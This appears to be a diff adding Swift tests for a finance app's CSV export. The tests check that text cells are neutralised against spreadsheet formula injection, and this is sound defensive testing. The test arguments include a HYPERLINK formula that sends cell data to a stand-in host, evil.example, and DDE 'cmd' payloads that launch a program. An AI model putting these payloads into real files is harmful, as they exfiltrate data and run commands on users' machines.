@@ -60,4 +60,44 @@ struct MoneyExportTests {
             await #expect(throws: ServiceError.self) { try await services.finances.export(in: cast.community, as: cast.outsider) }
         }
     }
+
+    @Test(
+        "a cell that a spreadsheet would run as a formula is neutralised (OWASP): text beginning with =, +, -, @, tab or CR gets a leading '; amounts stay numbers",
+        arguments: [
+            #"=HYPERLINK("https://evil.example/?d="&A1,"Click")"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+        ])
+    func spreadsheetFormulas(text: String) async throws {
+        try await withServices { services, _ in
+            let cast = try await Cast.make(services)
+            let child = try await services.family.add(name: String(text.prefix(100)), as: cast.member)
+            _ = try await services.finances.addExpense(
+                in: cast.community, description: text, total: try dollars("12.50"), paidBy: cast.admin,
+                split: .equal([.user(cast.admin), .familyMember(child.id)]), as: cast.admin)
+            let csv = String(decoding: try await services.finances.export(in: cast.community, as: cast.member).csv(), as: UTF8.self)
+            let reader = try CSVReader(string: csv, hasHeaderRow: true)
+            var rows: [[String: String]] = []
+            while let fields = reader.next() { rows.append(Dictionary(uniqueKeysWithValues: zip(MoneyExport.header, fields))) }
+            #expect(rows.first?["description"] == "'" + text, "\(rows.first ?? [:])")
+            #expect(rows.compactMap { $0["for"] }.filter { !$0.isEmpty } == ["'" + String(text.prefix(100))])
+            // No text cell begins as a formula; every amount reads as a number.
+            let risky: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]
+            for row in rows {
+                for column in ["description", "for"] { #expect(!(row[column]?.first.map(risky.contains) ?? false), "\(column): \(row)") }
+                #expect(Double(row["amount"] ?? "") != nil, "\(row)")
+            }
+            #expect(rows.first?["amount"] == "12.50")
+            // The JSON export keeps the text as typed: it is data, not a sheet.
+            let json = try await services.finances.export(in: cast.community, as: cast.member)
+            #expect(json.rows.first?.description == text)
+        }
+    }
+
+    @Test("plain text, numbers written as text and text with a risky character later on are left as they are; a leading tab or CR is neutralised")
+    func spreadsheetSafeLeavesTheRest() {
+        // The services refuse control characters in names and descriptions; the rule holds anyway.
+        #expect(MoneyExport.spreadsheetSafe("\tTab") == "'\tTab" && MoneyExport.spreadsheetSafe("\rCR") == "'\rCR")
+        for text in ["Pizza", "12 apples", "Tom & Jerry's = fun", "a-b", "", " =leading space", "Ünïcödé"] {
+            #expect(MoneyExport.spreadsheetSafe(text) == text)
+        }
+    }
 }
